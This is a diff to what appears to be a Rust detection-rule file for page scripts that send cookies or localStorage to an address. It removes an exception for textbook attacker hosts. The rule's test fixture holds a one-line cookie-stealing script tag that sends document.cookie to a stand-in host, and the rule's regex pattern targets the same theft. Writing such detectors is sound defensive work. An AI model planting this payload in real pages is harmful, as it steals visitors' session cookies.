@@ -392,7 +392,6 @@ const PAGE: Rule = Rule {
     message: "puts the cookies or keys that a page keeps into an address",
     literals: &["document.cookie", "localStorage", "sessionStorage"],
     pattern: r"(?:\.src|\.href|location)\s{0,2}=\s{0,2}[^\n;]{0,120}(?:document\.cookie|(?:local|session)Storage[.\[])|\b(?:sendBeacon|fetch|open|\.post|\.send)\([^\n;]{0,120}(?:document\.cookie|JSON\.stringify\((?:localStorage|sessionStorage)\))",
-    accept: Some(is_no_textbook),
     harmful: &[(
         "a.html",
         "<script>new Image().src = 'https://in.invalid/p?c=' + encodeURIComponent(document.cookie)</script>",
@@ -403,11 +402,6 @@ const PAGE: Rule = Rule {
     ],
     ..BASE
 };
-
-/// Whether the host is none of those by which textbooks show an attack.
-fn is_no_textbook(matched: &str) -> bool {
-    !["evil.com", "attacker.com", "evil.example", "attacker.example"].iter().any(|host| matched.contains(host))
-}
 
 const MOUNTED: Rule = Rule {
     id: "store-mounted-and-sent",
